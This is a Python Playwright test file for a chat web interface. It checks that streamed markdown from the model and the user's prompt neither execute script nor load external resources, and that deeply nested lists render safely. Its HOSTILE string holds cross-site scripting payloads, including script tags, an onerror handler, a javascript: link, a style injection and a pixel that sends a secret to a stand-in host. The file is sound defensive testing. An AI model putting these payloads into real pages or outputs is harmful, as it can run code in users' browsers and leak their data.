"""Text that would be more than text, if the page let it."""

from playwright.sync_api import Page, expect

from tests.harness import wire
from tests.harness.chat_page import ask, ended, last_body, open_chat, wait_until_live
from tests.harness.people import Person
from tests.harness.site import Site
from tests.harness.upstream import Upstream

HOSTILE = (
    '<script>window.hacked = 1</script> <img src="http://evil.invalid/a.png" onerror="window.hacked'
    ' = 2">\n\n![pixel](http://evil.invalid/b.png?secret=1) [click](javascript:window.hacked=3)'
    " [ok](https://ok.invalid/)\n\n<style>body{display:none}</style>\n\n```html\n"
    '<script>window.hacked = 4</script>\n```\n\n"onmouseover="window.hacked=5'
)


def test_hostile_markdown_runs_nothing_and_loads_nothing(
    site: Site, alice: Person, page: Page, upstream: Upstream
) -> None:
    gate = wire.Gate()
    key = upstream.script(
        [
            wire.role(),
            *wire.text(*HOSTILE),
            *wire.text("\n\nthe end"),
            gate,
            wire.finish(),
            wire.usage(),
            wire.DONE,
        ]
    )
    requested: list[str] = []
    page.on("request", lambda request: requested.append(request.url))
    open_chat(page, site, alice)
    ask(page, f"{key} <img src=http://evil.invalid/prompt.png>")

    def is_harmless() -> None:
        assert page.evaluate("window.hacked") is None
        assert (
            page.locator("[data-thread] img, [data-thread] script, [data-thread] style").count()
            == 0
        )
        hrefs = page.locator("[data-body] a[href]").evaluate_all(
            "links => links.map(link => link.getAttribute('href'))"
        )
        assert all(href.startswith(("http://", "https://")) for href in hrefs)

    expect(page.locator("[data-body]")).to_contain_text("the end")
    is_harmless()
    gate.open()
    ended(page)
    is_harmless()
    page.reload()
    wait_until_live(page)
    is_harmless()
    assert not [url for url in requested if not url.startswith(site.url)]


def test_text_without_end_of_nesting_does_not_break_the_page(
    site: Site, alice: Person, page: Page, upstream: Upstream
) -> None:
    deep = "".join(f"{'  ' * depth}- level {depth}\n" for depth in range(40)) + "> " * 60 + "bottom"
    key = upstream.script(wire.answer(*[deep[at : at + 7] for at in range(0, len(deep), 7)]))
    open_chat(page, site, alice)
    ask(page, key)
    ended(page)
    assert "level 39" in last_body(page)
